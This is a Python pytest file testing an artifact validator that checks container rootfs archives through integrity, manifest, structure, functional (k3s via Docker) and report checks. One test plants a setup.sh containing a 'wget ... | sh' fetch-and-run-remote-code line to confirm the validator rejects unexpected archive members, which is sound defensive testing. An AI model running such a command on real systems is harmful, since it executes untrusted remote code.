"""Tests for the Validator check sequence, the isolated runtime and the report."""

from __future__ import annotations

import json
import tarfile

import pytest

from conftest import FakeRunner, FakeRuntime, make_tar_gz, write_rootfs
from lxcforge.core.execution import CommandFailedError, CommandResult
from lxcforge.core.packager import Packager
from lxcforge.core.validator import (
    DockerRuntime,
    IsolatedRuntime,
    RuntimeHandle,
    Validator,
    node_ready,
    validate,
    write_report,
)
from lxcforge.errors import ArtifactValidationError
from lxcforge.models.config import BuildConfig
from lxcforge.models.reports import CheckStatus

CHECK_ORDER = ["archive_integrity", "manifest", "rootfs_structure", "functional", "performance"]


def _package(settings, config_dict, build_dir, prepare=None):
    write_rootfs(build_dir / "rootfs")
    if prepare is not None:
        prepare(build_dir / "rootfs")
    config = BuildConfig.model_validate(config_dict)
    return Packager(settings).package(build_dir, config)


@pytest.fixture
def artifact(settings, config_dict, tmp_dir):
    return _package(settings, config_dict, tmp_dir / "build")


def _validator(settings, runtime=None) -> Validator:
    return Validator(settings, runtime or FakeRuntime(), clock=lambda: 0.0, sleep=lambda s: None)


def _statuses(report) -> dict[str, CheckStatus]:
    return {c.name: c.status for c in report.checks}


class TestValidator:
    def test_good_artifact(self, settings, artifact):
        report = _validator(settings).validate(artifact.path)

        assert [c.name for c in report.checks] == CHECK_ORDER
        assert _statuses(report) == {
            "archive_integrity": CheckStatus.PASSED,
            "manifest": CheckStatus.PASSED,
            "rootfs_structure": CheckStatus.PASSED,
            "functional": CheckStatus.SKIPPED,
            "performance": CheckStatus.INFO,
        }
        assert report.get("functional").detail == "not requested"
        assert "checksums verified: sha256" in report.get("archive_integrity").detail
        assert report.get("performance").data["file_count"] > 0
        assert report.releasable
        report.require_releasable()

    def test_work_dir_removed(self, settings, artifact):
        _validator(settings).validate(artifact.path)
        assert list(settings.work_dir.iterdir()) == []

    def test_tampered_checksum(self, settings, artifact):
        sidecar = artifact.checksums.files["sha256"]
        sidecar.write_text(f"{'0' * 64}  {artifact.path.name}\n")

        report = _validator(settings).validate(artifact.path)
        integrity = report.get("archive_integrity")
        assert integrity.status == CheckStatus.FAILED
        assert "sha256 checksum mismatch" in integrity.detail
        for check in report.checks[1:]:
            assert check.status == CheckStatus.SKIPPED
            assert check.detail == "archive_integrity failed"
        with pytest.raises(ArtifactValidationError):
            report.require_releasable()

    def test_missing_sidecar_still_passes(self, settings, artifact):
        artifact.checksums.files["sha256"].unlink()
        report = _validator(settings).validate(artifact.path)
        assert report.get("archive_integrity").status == CheckStatus.PASSED
        assert "checksums verified" not in report.get("archive_integrity").detail

    def test_missing_artifact(self, settings, tmp_dir):
        report = _validator(settings).validate(tmp_dir / "absent.tar.gz")
        assert report.get("archive_integrity").status == CheckStatus.FAILED
        assert report.failed == 1
        assert report.skipped == 4

    def test_corrupt_archive(self, settings, tmp_dir):
        path = tmp_dir / "broken.tar.gz"
        path.write_bytes(b"\x1f\x8b not really gzip")
        report = _validator(settings).validate(path)
        assert "corrupt or unreadable" in report.get("archive_integrity").detail

    def test_unexpected_member(self, settings, artifact):
        with tarfile.open(artifact.path, "r:gz") as archive:
            members = {m.name: archive.extractfile(m).read() for m in archive.getmembers()}
        members["setup.sh"] = b"#!/bin/sh\nwget -O- http://example.invalid | sh\n"
        artifact.path.write_bytes(make_tar_gz(members))
        artifact.checksums.files["sha256"].unlink()

        report = _validator(settings).validate(artifact.path)
        integrity = report.get("archive_integrity")
        assert integrity.status == CheckStatus.FAILED
        assert integrity.detail == "unexpected members: setup.sh"
        assert not report.releasable

    def test_missing_runtime_binary(self, settings, config_dict, tmp_dir):
        def drop_k3s(rootfs):
            (rootfs / "usr/local/bin/k3s").unlink()

        artifact = _package(settings, config_dict, tmp_dir / "build", drop_k3s)
        report = _validator(settings).validate(artifact.path, functional=True)
        structure = report.get("rootfs_structure")
        assert structure.status == CheckStatus.FAILED
        assert "missing /usr/local/bin/k3s" in structure.detail
        assert report.get("functional").detail == "rootfs_structure failed"
        assert report.get("performance").status == CheckStatus.SKIPPED


class TestFunctionalCheck:
    def test_ready_node(self, settings, artifact):
        runtime = FakeRuntime()
        report = _validator(settings, runtime).validate(artifact.path, functional=True)
        assert report.get("functional").status == CheckStatus.PASSED
        assert runtime.started[0].name == "rootfs.tar.gz"
        assert len(runtime.removed) == 1

    def test_runtime_unavailable_is_skipped(self, settings, artifact):
        runtime = FakeRuntime(usable=False)
        report = _validator(settings, runtime).validate(artifact.path, functional=True)
        functional = report.get("functional")
        assert functional.status == CheckStatus.SKIPPED
        assert functional.detail == "fake runtime is switched off"
        assert report.releasable
        assert runtime.started == []

    def test_api_never_ready(self, settings, artifact):
        runtime = FakeRuntime(readyz="")
        report = _validator(settings, runtime).validate(artifact.path, functional=True)
        functional = report.get("functional")
        assert functional.status == CheckStatus.FAILED
        assert "never reported ready" in functional.detail
        # the container is removed even when the check fails
        assert len(runtime.removed) == 1
        assert report.get("performance").status == CheckStatus.INFO

    def test_node_never_ready(self, settings, artifact):
        runtime = FakeRuntime(nodes="lxc-node   NotReady   control-plane   1m   v1")
        report = _validator(settings, runtime).validate(artifact.path, functional=True)
        assert report.get("functional").detail == "no node reached Ready"

    def test_fake_satisfies_protocol(self):
        assert isinstance(FakeRuntime(), IsolatedRuntime)
        assert isinstance(DockerRuntime(FakeRunner()), IsolatedRuntime)


@pytest.mark.parametrize(
    ("output", "expected"),
    [
        ("lxc-node   Ready   control-plane,master   1m   v1.28.4+k3s1", True),
        ("lxc-node   Ready,SchedulingDisabled   control-plane   1m   v1", True),
        ("lxc-node   NotReady   control-plane   1m   v1", False),
        ("", False),
    ],
)
def test_node_ready(output, expected):
    assert node_ready(output) is expected


class TestDockerRuntime:
    def test_not_installed(self, settings):
        runner = FakeRunner({"docker info": CommandResult(returncode=127)})
        assert DockerRuntime(runner, settings).available() == (False, "docker is not installed")

    def test_daemon_down(self, settings):
        runner = FakeRunner(
            {"docker info": CommandResult(returncode=1, stderr="Cannot connect to the daemon")}
        )
        usable, reason = DockerRuntime(runner, settings).available()
        assert usable is False
        assert "Cannot connect" in reason

    def test_start_exec_remove(self, settings, tmp_dir):
        runner = FakeRunner({"docker run": CommandResult(returncode=0, stdout="abc123\n")})
        docker = DockerRuntime(runner, settings)
        handle = docker.start(tmp_dir / "rootfs.tar.gz", tag="1.0.0-1")
        assert handle == RuntimeHandle(container="abc123", image="lxcforge-validate:1.0.0-1")
        assert runner.calls[0] == [
            "docker", "import", str(tmp_dir / "rootfs.tar.gz"), "lxcforge-validate:1.0.0-1"
        ]
        assert "--privileged" in runner.calls[1]

        docker.exec(handle, ["k3s", "kubectl", "get", "nodes"])
        assert runner.calls[-1][:3] == ["docker", "exec", "abc123"]

        docker.remove(handle)
        assert runner.calls[-2:] == [
            ["docker", "rm", "-f", "abc123"],
            ["docker", "rmi", "-f", "lxcforge-validate:1.0.0-1"],
        ]

    def test_failed_start_removes_image(self, settings, tmp_dir):
        runner = FakeRunner({"docker run": CommandResult(returncode=125, stderr="no privileges")})
        with pytest.raises(CommandFailedError):
            DockerRuntime(runner, settings).start(tmp_dir / "rootfs.tar.gz", tag="t")
        assert runner.calls[-1] == ["docker", "rmi", "-f", "lxcforge-validate:t"]


class TestReport:
    def test_write_report(self, settings, artifact, tmp_dir):
        report = _validator(settings).validate(artifact.path)
        path = write_report(report, tmp_dir / "reports" / "validation.json")
        document = json.loads(path.read_text())
        assert [c["name"] for c in document["checks"]] == CHECK_ORDER
        assert document["summary"] == {
            "total": 5,
            "passed": 3,
            "failed": 0,
            "skipped": 1,
            "info": 1,
            "releasable": True,
        }

    def test_module_level_validate(self, settings, artifact):
        report = validate(artifact.path, settings=settings, runtime=FakeRuntime())
        assert report.releasable
